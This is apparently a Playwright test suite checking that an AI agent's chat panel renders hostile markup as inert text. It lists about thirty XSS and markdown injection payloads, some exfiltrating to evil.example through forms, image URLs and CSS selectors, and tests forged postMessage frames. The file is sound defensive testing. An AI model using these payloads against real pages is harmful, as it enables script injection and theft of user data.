import { strict as assert } from 'node:assert';
import type { Page } from 'playwright-core';
import { attack, priceChange } from './fixtures';
import { usePanelPage } from './panelPage';
import { agentId } from './sessionScript';
import { openState } from './lookPage';
import { begun, snapshot } from './states';

/** Each sets `window.pwned`, asks a server for something, or leaves the panel, wherever it is taken as markup. */
const hostile: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<img src="https://evil.example/a.png">',
  '<svg onload=window.pwned=1><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  '<math><mi xlink:href="data:x,<script>window.pwned=1</script>">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  '<template><img src=x onerror=window.pwned=1></template>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src=//evil.example>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><link rel=prefetch href=//evil.example/p>',
  '<style>@import "https://evil.example/a.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/css)">x</p>',
  '<b onclick=window.pwned=1 onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 tabindex=0>b</b>',
  '<details open ontoggle=window.pwned=1><summary>s</summary></details>',
  '<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=//evil.example/a autoplay>',
  '<input type=image src=https://evil.example/i><button formaction=javascript:window.pwned=1>Approve</button>',
  '<form action=https://evil.example><input name=key value=secret></form>',
  '![a](https://evil.example/p.png?secret=1) ![b](//evil.example/q) ![c][r] ![![d](https://evil.example/d)](x)',
  '[r]: https://evil.example/reference.png\n\n[![badge](https://evil.example/badge.svg)](https://evil.example/go)',
  '[one](javascript:window.pwned=1) [two](JaVa&#10;Script:window.pwned=1) [three](&#106;avascript:window.pwned=1)',
  '[four](data:text/html;base64,PHNjcmlwdD4=) [five](vbscript:x) [six](command:workbench.action.quit) [seven](vscode://x/y)',
  '<javascript:window.pwned=1> <command:x> [eight](<java script:window.pwned=1>) [nine](\\\\evil.example\\share)',
  '<a href="https://evil.example" ping="https://evil.example/ping" target=_top onclick=window.pwned=1>ten</a>',
  '[https://good.example](https://evil.example/phish "https://good.example")',
  '```html"><img src=x onerror=window.pwned=1>\n</code><img src=x onerror=window.pwned=1>\n```',
  '| <img src=x onerror=window.pwned=1> |\n|---|\n| <svg/onload=window.pwned=1> |',
  '\u0000<scr\u0000ipt>window.pwned=1</scr\u0000ipt> <x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwned=1</x:script>',
];

describe('attack: markup in texts that are shown', function () {
  this.timeout(60_000);
  const panel = usePanelPage();
  let page: Page;
  const left: string[] = [];
  beforeEach(() => {
    ({ page } = panel);
    left.splice(0);
    page.on('request', (request) => {
      if (!request.url().startsWith(`${panel.origin}/`) && !request.url().startsWith('data:')) left.push(request.url());
    });
  });

  async function safe(): Promise<void> {
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.deepEqual(left, []);
    const dangerous =
      ':is(script, iframe, object, embed, form, style, img, svg:not(.icon), math, base, meta, video, audio)';
    assert.equal(await page.locator(`#root ${dangerous}`).count(), 0);
    assert.equal(await page.locator('.markdown :is([style], [id], [onclick], [target], [ping], input)').count(), 0);
    assert.ok(page.url().startsWith(`${panel.origin}/`), page.url());
  }

  for (const address of ['page.html', 'noPolicy.html'])
    it(`does nothing in an answer, however it is written (${address})`, async () => {
      await page.setViewportSize({ width: 420, height: 2400 });
      await openState(page, `${panel.origin}/${address}?state=empty`);
      for (const half of [hostile.slice(0, 15), hostile.slice(15)]) {
        const script = begun();
        for (const text of half) script.answer(text).answer(`- item\n  > ${text.replaceAll('\n', '\n  > ')}`);
        await panel.deliver(snapshot(script.view));
        await page.locator('.answer').nth(half.length).waitFor();
        for (const link of await page.locator('.answer a').all()) {
          await link.dispatchEvent('click');
          await link.dispatchEvent('auxclick', { button: 1 });
        }
        await safe();
      }
      for (const op of await panel.posted()) {
        assert.ok(op.type === 'link.open' || op.type === 'file.open', JSON.stringify(op));
        if (op.type === 'file.open') assert.doesNotMatch(op.path, /^[a-z]+:|^[\\/]{2}/i);
      }
    });

  it('says where a link leads, whatever it is called', async () => {
    await panel.open('empty');
    const text =
      '[https://good.example](https://evil.example/phish "https://good.example") [x](src/a.ts "https://b.example")';
    await panel.deliver(snapshot(begun().answer(text).view));
    const links = page.locator('.answer a');
    await links.nth(1).waitFor();
    const titles = await links.evaluateAll((links) => links.map((link) => link.getAttribute('title')));
    assert.deepEqual(titles, ['https://evil.example/phish', './src/a.ts']);
  });

  it('is text in names of files and sessions, in output, in problems and in questions', async () => {
    await page.setViewportSize({ width: 420, height: 2400 });
    await panel.open('empty');
    const name = `src/<img src=x onerror="window.pwned=1">${'a'.repeat(20)}.ts`;
    const script = begun().user(attack).think(attack);
    script.completed(script.call('fs_read', { path: name }), { content: attack });
    const edit = script.call('fs_edit', { path: name });
    const problem = { path: name, line: 1, severity: attack, message: attack };
    script.asks(edit, {
      kind: 'edit',
      files: [{ ...priceChange, path: name, diff: `@@ -1 +1 @@\n+${attack}` }],
      reason: attack,
    });
    script.decided(edit, 'allow', attack).completed(edit, { ok: true, new_problems: [problem] });
    const run = script.call('bash_run', { cmd: attack });
    script.completed(run, { background: false, code: 0, output: attack, refused_by_sandbox: [attack] });
    script.failed(script.call(attack, {}), attack);
    script.asks(
      script.call('ask_user', {}),
      { kind: 'question', question: attack, choices: [attack], reason: attack },
      2,
    );
    const plan = { title: attack, text: attack, reason: attack };
    script.asks(script.call('present_plan', { title: attack }), { kind: 'plan', ...plan }, 3);
    const pending = [
      { path: attack, movedFrom: attack, kind: 'modified', hunks: 1, additions: 1, deletions: 1 },
    ] as const;
    const containment = { level: 'none', files: attack, network: attack, reason: attack, fix: attack } as const;
    const sessions = [{ sessionId: agentId('agt-first'), title: attack, state: 'READY', openApprovals: 0 }] as const;
    await panel.deliver(snapshot(script.view, { sessions, containment, pending, instructions: [name] }));
    await page.locator('.question-form').waitFor();
    await page.evaluate(() => {
      for (const fold of document.querySelectorAll<HTMLElement>('.fold[aria-expanded=false]')) fold.click();
    });
    await page.getByRole('button', { name: /^Sandbox/ }).click();
    await safe();
    const subject = { kind: 'line', text: attack, cwd: attack, boundTo: attack } as const;
    await panel.deliver({ type: 'showRules' });
    await panel.deliver({ type: 'rules', rules: [{ id: 'r', scope: 'session', subject, createdAt: 0 }] });
    await page.locator('.rule').waitFor();
    await safe();
  });

  it('hears nobody but its own host', async () => {
    await openState(page, `${panel.origin}/noPolicy.html?state=empty`);
    await page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.sandbox.add('allow-scripts');
      const forged = JSON.stringify({ type: 'problem', message: 'forged', advice: 'click here' });
      frame.srcdoc = `<script>parent.postMessage(${forged}, '*'); parent.postMessage({ type: 'showRules' }, '*'); parent.postMessage('sent', '*')</script>`;
      const sent = new Promise<void>((resolve) => {
        addEventListener('message', ({ data }) => {
          if (data === 'sent') resolve();
        });
      });
      document.body.append(frame);
      await sent;
    });
    await page.waitForTimeout(100);
    assert.equal(await page.getByText('forged').count(), 0);
    assert.equal(await page.locator('.page').count(), 0);
    await panel.deliver({ type: 'problem', message: 'genuine', advice: '' });
    await page.getByText('genuine').waitFor();
  });
});
